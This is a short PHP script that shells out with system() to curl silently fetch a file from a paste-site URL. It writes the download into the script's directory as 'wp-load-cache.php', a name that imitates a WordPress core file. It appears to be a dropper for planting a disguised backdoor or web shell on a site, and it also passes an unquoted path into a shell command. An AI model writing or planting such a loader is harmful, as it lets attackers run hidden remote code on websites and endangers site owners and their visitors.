<?php
$dir = dirname(__FILE__);
system("cd $dir && curl -s http://paste.example.org/raw/Qx81 > wp-load-cache.php");
echo 'done';
